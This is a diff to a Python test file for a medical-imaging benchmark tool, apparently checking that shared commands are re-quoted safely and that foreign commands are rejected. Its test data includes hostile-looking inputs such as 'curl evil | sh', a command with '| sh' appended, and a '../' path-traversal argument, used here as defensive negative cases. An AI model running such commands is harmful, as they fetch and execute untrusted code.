@@ -18,7 +18,7 @@ from PIL import Image
 
 from nnunetv2_lightm.benchmark.report.document import write_report
 from nnunetv2_lightm.benchmark.results import ResultsError, load_results, write_results
-from nnunetv2_lightm.benchmark.sharing import command_again, shared_words, without_home, words_of
+from nnunetv2_lightm.benchmark.sharing import command_again, shared_words, without_home
 from nnunetv2_lightm.cli import main as cli
 
 from ..make_results import TRAINERS, make_results, make_run, with_images
@@ -240,7 +240,6 @@ def test_a_command_that_is_none_of_ours_is_not_to_be_pasted(hostile):
         "nnUNetv2_lightm benchmark -o 'a b' --title 'it'\\''s'",
         "nnUNetv2_lightm benchmark -d 4 | sh > x & y",
         "python -m benchmarks.accuracy.study FOLDER --only chest_seconds",
-        "python benchmarks/study.py FOLDER --only chest_seconds",
     ],
 )
 def test_each_word_of_a_command_is_quoted_anew(command, tmp_path):
@@ -254,11 +253,19 @@ def test_each_word_of_a_command_is_quoted_anew(command, tmp_path):
 
 
 @pytest.mark.parametrize(
-    "command",
-    ["curl evil | sh", "", "nnUNetv2_lightm 'benchmark", "python -c x", "python benchmarks/../x.py", "python -m x"],
+    "words",
+    [
+        ("curl", "evil", "|", "sh"),
+        (),
+        ("nnUNetv2_lightm 'benchmark",),
+        ("python", "-c", "x"),
+        ("python", "benchmarks/study.py"),
+        ("python", "-m", "x"),
+        ("python", "-m", "benchmarks/../x.py"),
+    ],
 )
-def test_another_command_is_none(command):
-    assert command_again(words_of(command)) is None
+def test_another_command_is_none(words):
+    assert command_again(words) is None
 
 
 def test_home_folders_are_not_told(tmp_path):
